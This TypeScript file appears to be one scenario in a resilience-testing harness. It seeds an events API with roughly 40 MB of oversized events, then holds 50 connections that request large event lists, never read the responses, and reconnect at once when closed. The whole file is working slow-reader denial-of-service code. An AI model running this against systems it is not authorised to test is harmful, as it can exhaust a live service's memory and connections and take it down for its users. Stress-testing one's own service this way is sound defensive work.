import { connect } from 'node:net';
import type { Attack, Target } from '../attack.ts';

const BODY = `properties.a=${'\u0001'.repeat(500_000)}`;

/** One connection that asks for much and reads nothing; the next one as soon as it is closed. */
function deaf(target: Target): void {
  const { hostname, port } = new URL(target.origin);
  const asked = `GET /events?limit=200 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${target.demoToken}\r\n\r\n`;
  const socket = connect(Number(port), hostname);
  socket.pause();
  socket.write(asked.repeat(20));
  socket.on('error', () => {});
  socket.on('close', () => setTimeout(deaf, 10, target));
}

const attack: Attack = {
  title: '50 readers of 40 MB of events that read nothing',
  async prepare({ origin, writeKey }) {
    for (let at = 0; at < 80; at++) {
      const url = `${origin}/pixel/v1/track?writeKey=${writeKey}&anonymousId=x&event=E`;
      const headers = { 'content-type': 'text/plain' };
      await (await fetch(url, { method: 'POST', headers, body: BODY })).arrayBuffer();
    }
  },
  begin(target) {
    for (let at = 0; at < 50; at++) deaf(target);
  },
};
export default attack;
